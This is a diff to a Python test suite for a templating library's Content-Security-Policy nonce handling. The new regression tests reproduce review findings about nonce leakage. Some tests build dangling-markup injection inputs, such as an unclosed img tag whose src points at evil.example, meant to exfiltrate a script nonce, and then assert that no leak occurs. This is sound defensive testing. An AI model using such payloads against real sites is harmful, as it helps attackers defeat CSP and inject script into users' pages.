@@ -2,7 +2,7 @@
 
 A template's result in a nonce scope is markup whose text is its literals' own; the
 request's nonce goes in only when the page is written out (``csp.written``, the output
-policy and the adapters, and ``encode()``).  Before this, the nonce was in the text from
+policy and the adapters).  Before this, the nonce was in the text from
 the moment a literal was output or a format ran, so whatever code did next with that text
 could put a value into a nonced script.  Each hostile test here names the review finding
 it reproduces; each failed before the carrier (the nonce was in the text).  Chromium runs
@@ -15,6 +15,7 @@ import gettext
 import json
 import textwrap
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from markupsafe import Markup
@@ -143,7 +144,10 @@ def test_the_request_that_writes_markup_out_gives_it_its_nonce(templates: Any) -
     with nonce_scope("made"):
         page = templates.app_js()
     assert sent(page) == '<script src="/app.js" nonce="made"></script>'  # written later
-    assert page.encode() == sent(page).encode()  # bytes are the page as sent
+    # Only the response path writes it: bytes made elsewhere (``quote()`` of markup into
+    # a URL encodes it) hold none (fourth review, finding 3).
+    assert page.encode() == b'<script src="/app.js"></script>'
+    assert "nonce" not in quote(page)
     with nonce_scope("other"):
         assert sent(page) == '<script src="/app.js" nonce="other"></script>'
 
@@ -512,3 +516,60 @@ def test_a_tstring_holding_a_partial_keeps_its_nonce_every_time_in_both_twins() 
     assert python == c
     for name, renders in python.items():
         assert all(render.count('nonce="N"') == 1 for render in renders), (name, renders)
+
+
+# -- the fourth review's findings ----------------------------------------------------------
+
+FOURTH = textwrap.dedent(
+    """\
+    from ptl_wsgi.html import htmltext
+
+    def app_js [html] ():
+        '<script src="/app.js"></script>'
+
+    def head [html] ():
+        '<script src="/head.js"></script>'
+
+    def held_back [html] (tag, v):
+        head() + "<" + tag + " src='" + v + app_js() + "'>"
+
+    def ends_held [html] ():
+        '<script src="/head.js"></script><'
+    """
+)
+
+
+def test_markup_holding_back_a_lone_lt_is_not_text() -> None:
+    """Fourth review, finding 1: ``<`` held back makes what follows a tag."""
+    module = compiled(FOURTH, "csp_carrier_fourth")
+    with nonce_scope(NONCE):
+        out = sent(module.held_back("img", "https://evil.example/?"))
+        after = sent(
+            module.ends_held() + htmltext("img src='https://evil.example/?") + module.app_js()
+        )
+        before = sent(htmltext("<") + module.app_js())
+    assert out.count(NONCE) == 1 and nonces(out)[0] == ("script", NONCE)
+    assert after.count(NONCE) == 1
+    assert NONCE not in before
+
+
+def test_the_compiled_templates_join_is_not_public() -> None:
+    """Fourth review, finding 4: the join that trusts its parts' places is the compiler's."""
+    from ptl_wsgi import html
+
+    assert "template_join" not in html.__all__ and not hasattr(html, "template_join")
+
+
+def test_items_joined_in_a_tstring_are_followed() -> None:
+    """Fourth review, finding 5: a list in a t-string's text is joined item after item."""
+    from test_csp_nonces import Template, _Interpolation
+
+    from ptl_wsgi.html import htmlformat
+
+    module = compiled(FOURTH, "csp_carrier_items")
+    with nonce_scope(NONCE):
+        items = [htmltext("<img src='"), "https://evil.example/?", module.app_js(), htmltext("'>")]
+        leaked = sent(htmlformat(Template("<div>", _Interpolation(items), "</div>")))
+        kept = sent(htmlformat(Template("<div>", _Interpolation([module.app_js()]), "</div>")))
+    assert NONCE not in leaked
+    assert kept.count(NONCE) == 1
